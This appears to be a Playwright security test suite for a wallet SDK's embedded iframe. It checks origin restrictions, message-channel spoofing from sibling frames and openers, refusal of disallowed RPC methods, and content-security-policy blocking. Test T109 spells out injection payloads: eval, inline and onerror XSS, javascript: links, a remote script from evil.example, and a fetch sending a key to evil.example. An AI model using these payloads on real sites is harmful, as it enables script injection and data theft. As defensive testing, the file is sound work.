import type { Page } from '@playwright/test'
import { devEnvironment } from '../setup/devEnvironment.js'
import { publishHostPage } from '../setup/hostPages.js'
import { expect, test } from '../setup/test.js'
import { frameUrl, openFrameHost } from './frameHost.js'

const evil = 'evil.localhost'

/** No page may get an answer; a second is four times as long as an honest page waits. */
async function hearsNothing(page: Page): Promise<void> {
  const got = await page.evaluate(async () => {
    const tries = Array.from({ length: 4 }, () => window.host.hello())
    await new Promise((done) => setTimeout(done, 1_000))
    return tries.flatMap((each) => each.got)
  })
  expect(got).toEqual([])
}

/** The frame's requests to its server. */
function vaultCalls(page: Page): string[] {
  const calls: string[] = []
  page.on('request', (request) => {
    const url = request.url()
    if (url.startsWith(`${devEnvironment().vault}/v1/`)) calls.push(url)
  })
  return calls
}

test('T01 a page that is not allowed does not get to see the frame', async ({ page }) => {
  const problems: string[] = []
  page.on('console', (message) => problems.push(message.text()))
  await openFrameHost(page, { name: evil })
  await hearsNothing(page)
  expect(problems.join()).toContain('frame-ancestors')
  await openFrameHost(page, { src: frameUrl('unknown') })
  await hearsNothing(page)
})

test('T02 a frame two pages deep refuses, even where no server sends its policy', async ({
  page,
}) => {
  const inner = `${await openFrameHost(page)}`
  const outer = `<!doctype html><iframe src="${inner}" style="width:600px;height:700px"></iframe>`
  const url = await publishHostPage({ html: outer }, evil)
  for (const isStripped of [false, true]) {
    if (isStripped) {
      await page.route(`${devEnvironment().vault}/sdk**`, async (route) => {
        const response = await route.fetch()
        const { 'content-security-policy': _, ...headers } = response.headers()
        await route.fulfill({ response, headers })
      })
    }
    await page.goto(url)
    const host = page.frames().find((frame) => frame.url() === inner)
    const got = await host?.evaluate(async () => {
      const tries = Array.from({ length: 4 }, () => window.host.hello())
      await new Promise((done) => setTimeout(done, 1_000))
      return tries.flatMap((each) => each.got)
    })
    expect(got).toEqual([])
  }
})

test('T03 T04 who speaks before HELLO, for another project, or on a second port is not heard', async ({
  page,
}) => {
  const calls = vaultCalls(page)
  await openFrameHost(page)
  const early = await page.evaluate(async (vault) => {
    const heard: unknown[] = []
    window.addEventListener('message', ({ data }) => heard.push(data))
    const { contentWindow } = document.querySelector('iframe') ?? {}
    const request = {
      id: crypto.randomUUID(),
      type: '@w3m-app/CONNECT_EMAIL',
      payload: { email: 'a@example.test' },
    }
    contentWindow?.postMessage(request, vault)
    const foreign = window.host.hello({ projectId: 'another' })
    foreign.port.postMessage(request)
    await new Promise((done) => setTimeout(done, 800))
    return [...heard, ...foreign.got]
  }, devEnvironment().vault)
  expect(early).toEqual([])
  expect(calls).toEqual([])

  await page.evaluate(() => window.host.connect())
  const second = await page.evaluate(async () => {
    const { got, port } = window.host.hello()
    port.postMessage({ id: crypto.randomUUID(), type: '@w3m-app/GET_CHAIN_ID' })
    await new Promise((done) => setTimeout(done, 500))
    return got
  })
  expect(second).toEqual([])
  expect(await page.evaluate(() => window.host.ask('GET_CHAIN_ID'))).toMatchObject({
    type: '@w3m-frame/GET_CHAIN_ID_SUCCESS',
  })
})

test('T06 T21 methods outside the list and values of any kind do no harm', async ({ page }) => {
  await openFrameHost(page)
  await page.evaluate(() => window.host.connect())
  for (const method of ['eth_sign', 'personal_unlock', 'wallet_export', '__proto__', 'toString']) {
    const answer = await page.evaluate(
      (method) => window.host.ask('RPC_REQUEST', { method, params: [] }),
      method,
    )
    expect(answer, method).toMatchObject({
      type: '@w3m-frame/RPC_REQUEST_ERROR',
      payload: { message: 'Requested RPC call is not allowed' },
    })
  }
  await page.evaluate(async () => {
    const cyclic: Record<string, unknown> = {}
    cyclic.self = cyclic
    let deep: unknown = 'x'
    for (let i = 0; i < 2_000; i++) deep = [deep]
    const strange = ['x'.repeat(10_000_000), cyclic, 10n, new Date(), new Blob(['x']), deep, null]
    for (const params of strange) {
      const call = window.host.ask('RPC_REQUEST', { method: 'eth_call', params })
      await Promise.race([call, new Promise((done) => setTimeout(done, 300))])
    }
  })
  expect(await page.evaluate(() => window.host.events.map(({ type }) => type))).not.toContain(
    '@w3m-frame/APPROVAL',
  )
  expect(await page.evaluate(() => window.host.ask('GET_CHAIN_ID'))).toMatchObject({
    type: '@w3m-frame/GET_CHAIN_ID_SUCCESS',
  })
})

/** Counts in the frame itself what reaches it from other windows than the page: none of it may be answered. */
const countForeign = async (page: Page) => {
  const frame = page.frames().find((one) => one.url().startsWith(devEnvironment().vault))
  await frame?.evaluate(() => {
    const all = window as { foreign?: number }
    all.foreign = 0
    window.addEventListener('message', ({ source }) => {
      if (source !== window.parent) all.foreign = (all.foreign ?? 0) + 1
    })
  })
  return () => frame?.evaluate(() => (window as { foreign?: number }).foreign)
}

test('T26 T27 T28 frames beside ours and the window that opened the page reach the frame, and are not heard', async ({
  page,
}) => {
  const vault = devEnvironment().vault
  // Says HELLO with a port of its own each time, and reports whatever comes back on it.
  const speech = `
    setInterval(() => {
      const { port1, port2 } = new MessageChannel()
      port1.onmessage = ({ data }) => parent.postMessage({ answered: data.type }, '*')
      const payload = { connectionId: crypto.randomUUID(), projectId: 'default', sdkVersion: 'x' }
      parent.frames[0].postMessage({ type: '@w3m-app/HELLO', payload }, '${vault}', [port2])
    }, 50)`
  const ad = await publishHostPage({ html: `<script>${speech}</script>` }, evil)
  await openFrameHost(page)
  const foreign = await countForeign(page)
  const answered = await page.evaluate(
    async ([ad, speech]) => {
      const answers: unknown[] = []
      window.addEventListener('message', ({ data }) => {
        if (data?.answered) answers.push(data.answered)
      })
      const own = document.createElement('iframe')
      own.srcdoc = `<script>${speech}</script>`
      const other = document.createElement('iframe')
      other.src = ad
      document.body.append(own, other)
      await new Promise((done) => setTimeout(done, 1_000))
      return answers
    },
    [ad, speech] as const,
  )
  expect(answered).toEqual([])
  expect(await foreign(), 'they did reach it').toBeGreaterThan(10)
  // No other window took the place of the page itself.
  await page.evaluate(() => window.host.connect())

  const opener = await publishHostPage({ html: '<!doctype html><title>Opener</title>' }, evil)
  const friend = await openFrameHost(await page.context().newPage())
  await page.goto(opener)
  const [popup] = await Promise.all([
    page.context().waitForEvent('page'),
    page.evaluate((friend) => void Object.assign(window, { popup: window.open(friend) }), friend),
  ])
  await popup.waitForFunction(() => document.querySelector('iframe') !== null)
  await popup.waitForTimeout(1_000)
  const fromOpener = await countForeign(popup)
  const got = await page.evaluate(async (vault) => {
    const got: unknown[] = []
    for (let tries = 0; tries < 4; tries++) {
      const { port1, port2 } = new MessageChannel()
      port1.onmessage = ({ data }) => got.push(data)
      const payload = { connectionId: crypto.randomUUID(), projectId: 'default', sdkVersion: 'x' }
      const { popup } = window as { popup?: Window }
      popup?.frames[0]?.postMessage({ type: '@w3m-app/HELLO', payload }, vault, [port2])
      await new Promise((done) => setTimeout(done, 200))
    }
    return got
  }, vault)
  expect(got).toEqual([])
  expect(await fromOpener(), 'it did reach it').toBe(4)
})

test('T29 T30 our own pages reveal nothing to their opener, and stand in no frame', {
  tag: '@long',
}, async ({ page }) => {
  const problems: string[] = []
  page.on('console', (message) => problems.push(message.text()))
  const url = await publishHostPage({ html: '<!doctype html><title>Opener</title>' }, evil)
  await page.goto(url)
  const paths = ['/device', '/login', '/mailbox', '/stop', '/freeze', '/approve']
  for (const path of paths) {
    const heard = await page.evaluate(async (target) => {
      const heard: unknown[] = []
      window.addEventListener('message', ({ data }) => heard.push(data))
      const popup = window.open(`${target}#token=abc&id=abc&key=abc`)
      const frame = document.createElement('iframe')
      frame.src = target
      document.body.append(frame)
      for (
        let at = 0;
        at < 7 || (at < 80 && !target.endsWith('/approve') && !popup?.closed);
        at++
      ) {
        await new Promise((done) => setTimeout(done, 100))
      }
      return { heard, hasWindow: popup !== null && !popup.closed }
    }, `${devEnvironment().vault}${path}`)
    // Cut off from its opener, a window looks closed to it; the approval window only answers to its own frame.
    expect(heard, path).toEqual({ heard: [], hasWindow: path === '/approve' })
  }
  expect(problems.filter((text) => text.includes('frame-ancestors'))).toHaveLength(paths.length)
})

test('T109 scripts, eval, markup and workers that are slipped into the frame do not run', async ({
  page,
}) => {
  await openFrameHost(page)
  await page.evaluate(() => window.host.connect())
  const frame = page.frames().find((each) => each.url().startsWith(`${devEnvironment().vault}/sdk`))
  const outcomes = await frame?.evaluate(async () => {
    const harmed = () => Reflect.get(window, 'harmed') !== undefined
    const violations: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      violations.push(effectiveDirective),
    )
    const text = 'window.harmed = true'
    const add = (name: 'script' | 'iframe' | 'a', fill: (element: HTMLElement) => void) => {
      const element = document.createElement(name)
      fill(element)
      document.body.append(element)
      element.click()
    }
    const attempts: Record<string, () => unknown> = {
      eval: () => Reflect.apply(Reflect.get(window, 'eval'), undefined, [text]),
      function: () => new Function(text)(),
      timer: () => Reflect.apply(setTimeout, window, [text, 0]),
      inline: () => add('script', (element) => element.append(text)),
      sink: () => add('script', (element) => Reflect.set(element, 'text', text)),
      foreign: () =>
        add('script', (element) => Reflect.set(element, 'src', 'https://evil.example/a.js')),
      data: () => add('script', (element) => Reflect.set(element, 'src', `data:,${text}`)),
      markup: () => Reflect.set(document.body, 'innerHTML', `<img src=x onerror="${text}">`),
      adjacent: () => document.body.insertAdjacentHTML('beforeend', `<img onerror="${text}">`),
      write: () => document.write(`<script>${text}</script>`),
      parser: () => new DOMParser().parseFromString(`<script>${text}</script>`, 'text/html'),
      handler: () => add('a', (element) => element.setAttribute('onclick', text)),
      link: () => add('a', (element) => element.setAttribute('href', `javascript:${text}`)),
      frame: () => add('iframe', (element) => Reflect.set(element, 'srcdoc', `<script>top.x=1`)),
      worker: () => new Worker(URL.createObjectURL(new Blob([text]))),
      policy: () =>
        Reflect.get(window, 'trustedTypes').createPolicy('evil', { createHTML: (x: string) => x }),
      network: () => fetch('https://evil.example/?key=1'),
    }
    const results: Record<string, string> = {}
    // The debugger's own call may do what a script may not: the attempts begin after it.
    await new Promise((done) => setTimeout(done, 0))
    for (const [name, attempt] of Object.entries(attempts)) {
      const before = violations.length
      let isThrown = false
      try {
        await attempt()
      } catch {
        isThrown = true
      }
      await new Promise((done) => setTimeout(done, 30))
      const isReported = violations.length > before
      const isRun = harmed()
      Reflect.deleteProperty(window, 'harmed')
      results[name] = isRun ? 'ran' : isThrown || isReported ? 'blocked' : 'unnoticed'
    }
    return { results, directives: [...new Set(violations)] }
  })
  const { directives = [], results = {} } = outcomes ?? {}
  expect(Object.entries(results).filter(([, outcome]) => outcome !== 'blocked')).toEqual([])
  expect(Object.keys(results)).toHaveLength(17)
  expect(directives).toEqual(
    expect.arrayContaining(['script-src-elem', 'require-trusted-types-for', 'connect-src']),
  )
  // The frame itself still answers: nothing of it was replaced.
  expect(await page.evaluate(() => window.host.ask('GET_CHAIN_ID'))).toMatchObject({
    type: '@w3m-frame/GET_CHAIN_ID_SUCCESS',
  })
})
